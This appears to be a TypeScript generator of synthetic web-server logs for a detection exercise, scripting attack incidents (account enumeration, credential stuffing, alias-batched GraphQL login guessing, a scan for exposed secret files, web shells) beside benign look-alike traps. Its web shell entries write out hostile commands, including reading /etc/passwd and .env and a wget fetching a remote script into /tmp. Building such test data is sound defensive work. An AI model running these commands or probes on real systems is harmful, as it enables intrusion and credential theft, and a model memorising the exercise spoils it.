// Round 5 (web) incidents and traps, written over the day of logs.ts, each in the layout its server writes.
import { BROWSERS, DAY0, HOUR, MIN, rng, SEC, type Req, type WebSet } from './logs';

const CHROME = BROWSERS[0]!;

// ---------------------------------------------------------------- incidents

/**
 * Account enumeration through the sign-up form's availability check (Caddy): one address asking
 * about 1,400 different e-mail addresses in 40 minutes, 404 for unknown, 200 for registered ones.
 */
export function emailEnumeration(): Partial<WebSet> {
  const r = rng(201);
  const out: Req[] = [];
  const first = ['anna', 'ben', 'carla', 'dmitri', 'eva', 'felix', 'greta', 'hugo', 'ines', 'jonas', 'kim', 'lena', 'max', 'nora'];
  const last = ['mueller', 'schmidt', 'schneider', 'fischer', 'weber', 'meyer', 'wagner', 'becker', 'schulz', 'hoffmann'];
  const dom = ['gmail.com', 'web.de', 'gmx.de', 'outlook.com', 'example-corp.de'];
  const start = DAY0 + 2 * HOUR + 10 * MIN;
  for (let i = 0; i < 1400; i++) {
    const email = `${first[i % first.length]}.${last[Math.floor(i / first.length) % last.length]}${i >= 140 ? Math.floor(i / 140) : ''}@${dom[i % dom.length]}`;
    const known = r() < 0.07;
    out.push({ ts: start + Math.floor(i * 1.7 * SEC), ip: '194.26.29.113', url: `/api/v1/accounts/check?email=${encodeURIComponent(email)}`, status: known ? 200 : 404, bytes: known ? 52 : 40, ua: CHROME });
  }
  return { caddy: out };
}

/** Credential stuffing a JSON token endpoint through Traefik: 300 residential addresses, 1-3 attempts each, over two hours. */
export function tokenStuffing(): Partial<WebSet> {
  const r = rng(202);
  const out: Req[] = [];
  for (let s = 0; s < 300; s++) {
    const ip = `${[24, 67, 73, 98, 174, 189][s % 6]}.${(s * 11) % 250}.${(s * 3) % 250}.${(s % 250) + 2}`;
    const tries = 1 + (s % 3);
    for (let k = 0; k < tries; k++) {
      const win = s % 60 === 11 && k === tries - 1;
      out.push({ ts: DAY0 + 1 * HOUR + Math.floor(r() * 2 * HOUR), ip, method: 'POST', url: '/api/v1/auth/token', status: win ? 200 : 401, bytes: win ? 820 : 96, ua: 'okhttp/4.9.3' });
    }
  }
  return { traefik: out };
}

/**
 * A web shell being used (nginx with upstream timings): an image upload that was a PHP file, then
 * commands in its query string answered 200 with varying sizes, then file uploads POSTed to it.
 */
export function webshellUse(): Partial<WebSet> {
  const ip = '185.220.101.47';
  const t0 = DAY0 + 3 * HOUR + 12 * MIN;
  const out: Req[] = [
    { ts: t0, ip, url: '/account/profile', bytes: 14000, ua: CHROME },
    { ts: t0 + 20 * SEC, ip, method: 'POST', url: '/account/avatar', status: 302, bytes: 0, ua: CHROME, ref: 'https://www.example.org/account/profile' },
  ];
  const cmds = ['id', 'whoami', 'uname+-a', 'pwd', 'ls+-la', 'cat+/etc/passwd', 'ps+aux', 'netstat+-an', 'cat+../../.env', 'ls+-la+/var/www', 'crontab+-l', 'wget+http://45.137.21.9/x.sh+-O+/tmp/.x'];
  cmds.forEach((c, i) => out.push({ ts: t0 + 60 * SEC + i * 25 * SEC, ip, url: `/uploads/avatars/img_4471.php?${i % 2 ? 'c' : 'cmd'}=${c}`, bytes: 30 + ((i * 977) % 4000), ua: CHROME }));
  for (let i = 0; i < 8; i++) out.push({ ts: t0 + 8 * MIN + i * 40 * SEC, ip, method: 'POST', url: '/uploads/avatars/img_4471.php', bytes: 120 + ((i * 331) % 2000), ua: CHROME });
  return { nginx: out };
}

const NUCLEI = [
  '/.git/config', '/.env', '/actuator/env', '/actuator/heapdump', '/server-status', '/wp-json/wp/v2/users', '/api/swagger.json', '/swagger-ui.html', '/v2/api-docs',
  '/.DS_Store', '/config.json', '/debug/pprof/', '/jolokia/list', '/console/', '/solr/admin/cores', '/_profiler/phpinfo', '/phpinfo.php', '/telescope/requests',
  '/.well-known/security.txt', '/api/v1/pods', '/metrics', '/graphql', '/.vscode/sftp.json', '/etc/passwd', '/cgi-bin/test.cgi', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/owa/auth/logon.aspx', '/remote/login', '/global-protect/login.esp', '/dana-na/auth/url_default/welcome.cgi', '/+CSCOE+/logon.html', '/manager/html', '/web.config', '/.aws/credentials',
  '/_next/static/../server/pages-manifest.json', '/.svn/wc.db', '/backup.sql', '/admin/config.php', '/elmah.axd', '/trace.axd',
];

/** A Nuclei-like scan through HAProxy, browser agent, paths in random order, each with a random cache-buster, over 6 minutes. */
export function nucleiScan(): Partial<WebSet> {
  const r = rng(203);
  const out: Req[] = [];
  const start = DAY0 + 4 * HOUR + 30 * MIN;
  const paths = [...NUCLEI, ...NUCLEI.map((p) => `/app${p}`), ...NUCLEI.map((p) => `/api${p}`)];
  for (let i = paths.length - 1; i > 0; i--) {
    const j = Math.floor(r() * (i + 1));
    [paths[i], paths[j]] = [paths[j]!, paths[i]!];
  }
  paths.forEach((p, i) => {
    const status = p.endsWith('/.well-known/security.txt') && !p.startsWith('/a') ? 200 : p === '/graphql' ? 400 : p === '/metrics' ? 403 : 404;
    out.push({ ts: start + Math.floor(i * 3 * SEC + r() * 2000), ip: '167.94.138.120', url: p, status, bytes: status === 404 ? 548 : 1200, ua: BROWSERS[4] });
  });
  return { haproxy: out };
}

/** GraphQL introspection and an alias-batched login guess (Apache vhost_combined, GET so the query is in the log). */
export function graphqlAbuse(): Partial<WebSet> {
  const ip = '45.155.205.233';
  const t0 = DAY0 + 22 * HOUR + 5 * MIN;
  const intro = encodeURIComponent('query IntrospectionQuery{__schema{queryType{name}mutationType{name}types{name kind fields{name args{name}}}}}');
  const out: Req[] = [
    { ts: t0, ip, url: `/graphql?query=${intro}`, bytes: 148000, ua: CHROME },
    { ts: t0 + 30 * SEC, ip, url: `/graphql?query=${encodeURIComponent('{__type(name:"User"){fields{name}}}')}`, bytes: 2100, ua: CHROME },
  ];
  for (let i = 0; i < 30; i++) {
    const aliases = Array.from({ length: 50 }, (_, k) => `a${k}:login(email:"admin@shop.example.org",password:"pw${i * 50 + k}"){token}`).join(' ');
    out.push({ ts: t0 + 2 * MIN + i * 20 * SEC, ip, url: `/graphql?query=${encodeURIComponent(`mutation{${aliases}}`)}`, bytes: 3800, ua: CHROME });
  }
  return { apache: out };
}

/** A web shell used on IIS behind the gateway: the client is in X-Forwarded-For, c-ip is the gateway's. */
export function iisShellBehindGateway(): Partial<WebSet> {
  const ip = '91.92.241.18';
  const t0 = DAY0 + 1 * HOUR + 40 * MIN;
  const out: Req[] = [];
  const cmds = ['whoami', 'whoami+/priv', 'ipconfig+/all', 'net+user', 'net+localgroup+administrators', 'tasklist', 'dir+C:\\inetpub', 'type+C:\\inetpub\\wwwroot\\web.config'];
  cmds.forEach((c, i) => out.push({ ts: t0 + i * 35 * SEC, ip, url: `/Upload/Files/logo_2291.aspx?cmd=${c}`, bytes: 200 + ((i * 613) % 3000) }));
  for (let i = 0; i < 6; i++) out.push({ ts: t0 + 6 * MIN + i * 50 * SEC, ip, method: 'POST', url: '/Upload/Files/logo_2291.aspx', bytes: 150 + i * 70 });
  return { iis: out };
}

// ---------------------------------------------------------------- traps

/** A single-page app whose 500 visitors' browsers (devtools open for some) ask for source maps the build does not ship: 404. */
export function sourceMaps(): Partial<WebSet> {
  const out: Req[] = [];
  const maps = ['/assets/main.3f9a1c.js.map', '/assets/vendor.88b2e0.js.map', '/assets/styles.d41c.css.map', '/assets/chunk-7d1e.js.map', '/assets/chunk-a0b3.js.map'];
  // one developer's laptop in the office NAT, devtools open all day: every reload asks for every map
  for (let i = 0; i < 120; i++) for (const m of maps) out.push({ ts: DAY0 + 9 * HOUR + i * 3 * MIN + 500, ip: '193.105.7.20', url: m, status: 404, bytes: 153, ua: BROWSERS[0], ref: 'https://portal.example.org/' });
  return { nginx: out };
}

/** Six RSS readers and Feedly polling the feeds every 15 minutes to an hour, 304 mostly. */
export function feedReaders(): Partial<WebSet> {
  const out: Req[] = [];
  const readers: [string, string, number][] = [
    ['52.88.150.3', 'Feedly/1.0 (+http://www.feedly.com/fetcher.html; 143 subscribers; like FeedFetcher-Google)', 15],
    ['35.171.12.44', 'Inoreader/1.0 (+http://www.inoreader.com/feed-fetcher; 12 subscribers; )', 30],
    ['88.198.50.7', 'Tiny Tiny RSS/22.11 (http://tt-rss.org/)', 30],
    ['95.90.233.1', 'NetNewsWire (RSS Reader; https://netnewswire.com/)', 60],
    ['2.206.14.90', 'Thunderbird/128.4.0', 60],
  ];
  for (const [ip, ua, every] of readers)
    for (let t = DAY0 + 3 * MIN; t < DAY0 + 24 * HOUR; t += every * MIN) for (const f of ['/feed.xml', '/news/feed.xml', '/blog/tag/security/feed.xml']) out.push({ ts: t + (f.length * SEC), ip, url: f, status: (t / MIN) % 180 < every ? 200 : 304, bytes: (t / MIN) % 180 < every ? 48000 : 0, ua });
  return { nginx: out };
}

/** A monitoring service checking /health and the login page every 30 s from five regions. */
export function regionalMonitors(): Partial<WebSet> {
  const out: Req[] = [];
  const probes = ['18.197.64.10', '3.98.112.4', '52.63.201.77', '13.244.31.9', '54.94.33.120'];
  probes.forEach((ip, k) => {
    for (let t = DAY0 + k * 6 * SEC; t < DAY0 + 24 * HOUR; t += 30 * SEC) {
      out.push({ ts: t, ip, url: '/health', bytes: 15, ua: 'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)' });
      if ((t / SEC) % 300 < 30) out.push({ ts: t + 400, ip, url: '/login', bytes: 5200, ua: 'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)' });
    }
  });
  return { caddy: out };
}

/** The team's own load test from an inside runner: 30 minutes of k6 against the product API, 200s and some 429s. */
export function loadTest(): Partial<WebSet> {
  const r = rng(204);
  const out: Req[] = [];
  const t0 = DAY0 + 16 * HOUR;
  for (let i = 0; i < 30 * 60 * 20; i++) {
    const ts = t0 + Math.floor(i / 20) * SEC + Math.floor(r() * 1000);
    out.push({ ts, ip: '10.30.5.21', url: `/api/v1/orders?status=open&limit=20`, status: r() < 0.03 ? 429 : 200, bytes: 2400, ua: 'k6/0.54.0 (https://k6.io/)' });
  }
  return { traefik: out };
}

/** A storefront's own GraphQL pages (GET, persisted in the URL): a few products fetched by alias, a login once. */
export function storefrontGraphql(): Partial<WebSet> {
  const out: Req[] = [];
  const q = encodeURIComponent('query Home{p1:product(id:101){name price} p2:product(id:102){name price} p3:product(id:103){name price} p4:product(id:104){name price} p5:product(id:105){name price}}');
  const login = encodeURIComponent('mutation{login(email:"kim@example.com",password:"x"){token}}');
  for (let v = 0; v < 40; v++) {
    const ip = `${[79, 84, 91][v % 3]}.${(v * 37) % 250}.${(v * 11) % 250}.${5 + v}`;
    const t = DAY0 + 10 * HOUR + v * 7 * MIN;
    out.push({ ts: t, ip, url: `/graphql?query=${q}`, bytes: 3300, ua: BROWSERS[v % BROWSERS.length], ref: 'https://shop.example.org/' });
    if (v % 4 === 0) out.push({ ts: t + 20 * SEC, ip, url: `/graphql?query=${login}`, bytes: 410, ua: BROWSERS[v % BROWSERS.length], ref: 'https://shop.example.org/login' });
  }
  return { apache: out };
}

/**
 * Account enumeration through the password-reset API (Caddy): the address is in the POSTed body, not
 * the log; what shows is one client posting the form 900 times in an hour, answered 404 for unknown
 * addresses and 202 for registered ones (the difference is the oracle).
 */
export function resetEnumeration(): Partial<WebSet> {
  const r = rng(205);
  const out: Req[] = [];
  const start = DAY0 + 23 * HOUR;
  for (let i = 0; i < 900; i++) {
    const known = r() < 0.06;
    out.push({ ts: start + i * 4 * SEC + Math.floor(r() * 1500), ip: '146.70.117.35', method: 'POST', url: '/api/v1/password/reset', status: known ? 202 : 404, bytes: known ? 61 : 48, ua: 'python-httpx/0.27.0' });
  }
  return { caddy: out };
}

/** A mail gateway's link checker opening a newsletter's signed confirm links for 400 recipients (each URL names the recipient). */
export function mailLinkChecker(): Partial<WebSet> {
  const out: Req[] = [];
  for (let i = 0; i < 400; i++) {
    const ip = ['148.163.150.12', '148.163.152.40', '67.231.149.7'][i % 3]!;
    out.push({ ts: DAY0 + 9 * HOUR + i * 9 * SEC, ip, url: `/newsletter/confirm?email=reader${i}%40example-corp.de&token=${(i * 7919).toString(36)}x${i}`, status: 302, bytes: 0, ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' });
  }
  return { nginx: out };
}

/** A mobile carrier's NAT address: thousands of app users' requests all day, 70 of them password resets. */
export function carrierNatResets(): Partial<WebSet> {
  const r = rng(206);
  const out: Req[] = [];
  const ip = '100.64.7.1';
  const app = 'IDApp/3.2 (Android 15; Pixel 8)';
  for (let i = 0; i < 3000; i++) out.push({ ts: DAY0 + 6 * HOUR + Math.floor(r() * 16 * HOUR), ip, url: i % 3 ? '/api/v1/me' : '/api/v1/session/refresh', method: i % 3 ? 'GET' : 'POST', bytes: 700, ua: app });
  for (let i = 0; i < 70; i++) out.push({ ts: DAY0 + 6 * HOUR + Math.floor(r() * 16 * HOUR), ip, method: 'POST', url: '/api/v1/password/reset', status: r() < 0.8 ? 202 : 404, bytes: 61, ua: app });
  return { caddy: out };
}

/**
 * A stolen session pulling the customer export at night through an opaque cursor (no id to walk):
 * 700 pages of 4-6 MB each in 70 minutes from one address (nginx upstream layout).
 */
export function cursorExport(): Partial<WebSet> {
  const r = rng(207);
  const out: Req[] = [];
  const ip = '23.94.148.61';
  const t0 = DAY0 + 2 * HOUR + 40 * MIN;
  for (let i = 0; i < 700; i++) {
    const cursor = Buffer.from(JSON.stringify({ after: `cus_${(0x5f3a1 + i * 977).toString(36)}`, n: 500 })).toString('base64url');
    out.push({ ts: t0 + i * 6 * SEC + Math.floor(r() * 2000), ip, url: `/api/v2/customers/export?format=csv&cursor=${cursor}`, bytes: 4_000_000 + Math.floor(r() * 2_000_000), ua: CHROME, ref: 'https://www.example.org/admin/customers' });
  }
  return { nginx: out };
}

/** A web shell written over a theme's 404 template: POSTs answered 200 with varying sizes, by one address. */
export function themeShell(): Partial<WebSet> {
  const out: Req[] = [];
  for (let i = 0; i < 25; i++) out.push({ ts: DAY0 + 4 * HOUR + i * 50 * SEC, ip: '103.75.190.12', method: 'POST', url: '/wp-content/themes/twentytwentyfour/404.php', bytes: 80 + ((i * 523) % 6000), ua: CHROME });
  return { nginx: out };
}

/** An old theme's own contact handler, posted to directly by 30 visitors, and timthumb.php resizing images for every page. */
export function themeContactForm(): Partial<WebSet> {
  const out: Req[] = [];
  for (let v = 0; v < 30; v++) {
    const ip = `89.${(v * 7) % 250}.${(v * 13) % 250}.${10 + v}`;
    const t = DAY0 + 9 * HOUR + v * 17 * MIN;
    out.push({ ts: t, ip, url: '/contact', bytes: 9000, ua: BROWSERS[v % BROWSERS.length] });
    out.push({ ts: t + 200, ip, url: `/wp-content/themes/oldschool/timthumb.php?src=/img/team-${v % 8}.jpg&w=300`, bytes: 24000, ua: BROWSERS[v % BROWSERS.length], ref: 'https://www.example.org/contact' });
    out.push({ ts: t + 60 * SEC, ip, method: 'POST', url: '/wp-content/themes/oldschool/lib/send-mail.php', bytes: 120, ua: BROWSERS[v % BROWSERS.length], ref: 'https://www.example.org/contact' });
  }
  return { nginx: out };
}
